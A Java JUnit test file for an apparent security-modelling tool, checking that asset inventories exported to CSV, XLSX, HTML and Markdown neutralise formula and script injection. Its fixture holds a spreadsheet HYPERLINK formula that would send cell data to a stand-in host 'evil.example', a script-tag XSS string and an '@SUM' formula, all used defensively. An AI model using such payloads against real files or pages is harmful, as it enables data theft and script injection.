/*
 * Copyright (c) 2026 Toride contributors. SPDX-License-Identifier: EPL-2.0
 */
package org.toride.core.inventory;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.util.List;
import java.util.Locale;

import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.toride.core.io.ModelLoader;
import org.toride.model.InformationSystem;
import org.toride.model.SecurityModel;
import org.toride.model.TorideFactory;
import org.toride.testsupport.Repository;

/** The asset inventory: right content, stable output, and safe to open in a spreadsheet or a browser. */
class InventoryTest {

    private static final String HOSTILE = "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")";

    private static SecurityModel hostileModel() {
        SecurityModel model = TorideFactory.eINSTANCE.createSecurityModel();
        model.setName("m");
        InformationSystem system = TorideFactory.eINSTANCE.createInformationSystem();
        system.setId("sys-1");
        system.setName(HOSTILE);
        system.setDescription("x");
        system.getTags().add("<script>alert(1)</script>");
        system.getTags().add("@SUM(1+1)");
        model.getAssets().add(system);
        return model;
    }

    private static SecurityModel example() {
        return new ModelLoader().load(Repository.waterUtility()).model();
    }

    @Test
    void exampleInventoryHasEverySheetAndAsset() {
        List<InventoryTable> tables = new InventoryBuilder(Locale.ENGLISH).build(example());

        assertEquals(List.of("assets", "information", "services", "suppliers", "flows"),
                tables.stream().map(InventoryTable::key).toList());
        assertEquals(80, tables.get(0).rows().size());
        assertEquals(12, tables.get(1).rows().size());
        assertEquals(4, tables.get(2).rows().size());
        assertEquals(10, tables.get(3).rows().size());
        assertEquals(47, tables.get(4).rows().size());
        for (InventoryTable table : tables) {
            table.rows().forEach(row -> assertEquals(table.headers().size(), row.size(), table.key()));
        }
    }

    @Test
    void markdownOfTheExampleIsTheReviewedOne() throws IOException {
        SecurityModel example = example();
        StringWriter text = new StringWriter();
        MarkdownInventory.write("資産目録: " + example.getName(), new InventoryBuilder(Locale.JAPANESE).build(example),
                new PrintWriter(text));

        assertEquals(Files.readString(Repository.root().resolve("examples/water-utility.inventory.ja.md")),
                text.toString(), "inventory changed; review and update examples/water-utility.inventory.ja.md");
    }

    @Test
    void japaneseHeadersAndSubTierSuppliers() {
        List<InventoryTable> tables = new InventoryBuilder(Locale.JAPANESE).build(example());

        assertEquals("資産管理者", tables.get(0).headers().get(6));
        InventoryTable suppliers = tables.get(3);
        int tier = suppliers.headers().indexOf("階層");
        assertTrue(suppliers.rows().stream().anyMatch(r -> r.get(tier).equals("2")), "no second-tier supplier");
    }

    @Test
    void csvStartsWithAByteOrderMarkAndNeutralisesFormulas() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();

        CsvInventory.write(new InventoryBuilder(Locale.ENGLISH).build(hostileModel()).get(0), out);

        byte[] bytes = out.toByteArray();
        assertEquals((byte) 0xEF, bytes[0]);
        String csv = new String(bytes, StandardCharsets.UTF_8);
        assertTrue(csv.contains("\"'=HYPERLINK("), csv);
        assertTrue(csv.contains("'@SUM(1+1)") || csv.contains("<script>alert(1)</script>, @SUM"), csv);
        assertFalse(csv.contains(",=HYPERLINK") || csv.contains("\"=HYPERLINK"), csv);
    }

    @Test
    void xlsxHasFrozenFilteredHeadersAndOnlyTextCells() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();

        XlsxInventory.write(new InventoryBuilder(Locale.ENGLISH).build(hostileModel()), out);

        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(out.toByteArray()))) {
            assertEquals(5, workbook.getNumberOfSheets());
            XSSFSheet assets = workbook.getSheetAt(0);
            assertEquals("Assets", assets.getSheetName());
            assertEquals(1, assets.getPaneInformation().getHorizontalSplitPosition());
            assertTrue(assets.getCTWorksheet().isSetAutoFilter());
            Cell name = assets.getRow(1).getCell(1);
            assertEquals(CellType.STRING, name.getCellType());
            assertEquals("'" + HOSTILE, name.getStringCellValue());
            for (Sheet sheet : workbook) {
                assertTrue(sheet.getColumnWidth(0) > 256, sheet.getSheetName() + " column width not set");
            }
        }
    }

    @Test
    void htmlEscapesModelTextAndLoadsNothing() {
        StringWriter html = new StringWriter();

        HtmlInventory.write("<b>m</b>", "en", new InventoryBuilder(Locale.ENGLISH).build(hostileModel()),
                new PrintWriter(html));

        String page = html.toString();
        assertFalse(page.contains("<script>"), page);
        assertTrue(page.contains("&lt;script&gt;alert(1)&lt;/script&gt;"));
        assertTrue(page.contains("<title>&lt;b&gt;m&lt;/b&gt;</title>"));
        assertFalse(page.contains("src=") || page.contains("href="), "the page must not load anything");
    }

    @Test
    void markdownEscapesTableBreakingText() {
        assertEquals("a \\| b \\<c\\>", MarkdownInventory.cell("a | b <c>"));
    }

    @Test
    void csvAndHtmlOfTheExampleAreTheReviewedOnes() throws IOException {
        SecurityModel example = example();
        ByteArrayOutputStream csv = new ByteArrayOutputStream();
        CsvInventory.write(new InventoryBuilder(Locale.ENGLISH).build(example).get(0), csv);
        StringWriter html = new StringWriter();
        HtmlInventory.write("資産目録: " + example.getName(), "ja", new InventoryBuilder(Locale.JAPANESE).build(example),
                new PrintWriter(html));

        assertArrayEquals(Files.readAllBytes(Repository.root().resolve("examples/water-utility.assets.csv")),
                csv.toByteArray(), "update examples/water-utility.assets.csv after reviewing the change");
        assertEquals(Files.readString(Repository.root().resolve("examples/water-utility.inventory.ja.html")),
                html.toString(), "update examples/water-utility.inventory.ja.html after reviewing the change");
    }
}
